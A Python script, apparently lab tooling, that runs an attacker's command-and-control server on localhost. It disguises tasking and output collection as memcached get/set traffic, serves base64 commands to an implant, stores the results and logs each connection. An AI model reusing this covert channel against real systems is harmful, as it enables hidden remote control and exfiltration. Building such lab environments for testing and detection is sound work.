#!/usr/bin/env python3
"""Lab tooling: the attacker's C2 of scenario-kiln-photourl, speaking memcached's text protocol on
127.0.0.1 (runs as labremote). `get kc:task:<node>` answers the next queued task (files DIR/tasks/NNN,
taken in order; the value is base64 of the command, the key kc:task:NNN) or END; `set kc:out:NNN ...`
stores the (base64) output as DIR/out/NNN. Logs every command to DIR/c2.log; stops after --lifetime s.

  kiln-c2.py --port 11311 --dir DIR [--lifetime 900]
"""
import argparse, base64, os, socketserver, threading, time


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--dir", required=True)
    p.add_argument("--lifetime", type=float, default=900)
    a = p.parse_args()
    for d in ("tasks", "out"):
        os.makedirs(os.path.join(a.dir, d), exist_ok=True)
    served, lock = set(), threading.Lock()

    def log(msg):
        with open(os.path.join(a.dir, "c2.log"), "a") as fh:
            fh.write("%s %s\n" % (time.strftime("%H:%M:%S"), msg))

    class H(socketserver.StreamRequestHandler):
        def handle(self):
            log("connection from %s:%d" % self.client_address)
            while True:
                line = self.rfile.readline()
                if not line:
                    return
                parts = line.decode(errors="replace").split()
                if not parts:
                    continue
                if parts[0] == "get":
                    with lock:
                        todo = sorted(n for n in os.listdir(os.path.join(a.dir, "tasks")) if n not in served)
                        n = todo[0] if todo else None
                        if n:
                            served.add(n)
                    if n:
                        val = base64.b64encode(open(os.path.join(a.dir, "tasks", n), "rb").read().rstrip(b"\n"))
                        log("task %s to %s" % (n, parts[1]))
                        self.wfile.write(b"VALUE kc:task:%s 0 %d\r\n%s\r\nEND\r\n" % (n.encode(), len(val), val))
                    else:
                        self.wfile.write(b"END\r\n")
                elif parts[0] == "set" and len(parts) >= 5:
                    data = self.rfile.read(int(parts[4]) + 2)[:-2]
                    n = parts[1].rsplit(":", 1)[-1]
                    with open(os.path.join(a.dir, "out", n), "wb") as fh:
                        fh.write(base64.b64decode(data))
                    log("output %s (%d bytes)" % (n, len(data)))
                    self.wfile.write(b"STORED\r\n")
                else:
                    self.wfile.write(b"ERROR\r\n")

    socketserver.ThreadingTCPServer.allow_reuse_address = True
    socketserver.ThreadingTCPServer.daemon_threads = True
    srv = socketserver.ThreadingTCPServer(("127.0.0.1", a.port), H)
    threading.Timer(a.lifetime, srv.shutdown).start()
    srv.serve_forever()


if __name__ == "__main__":
    main()
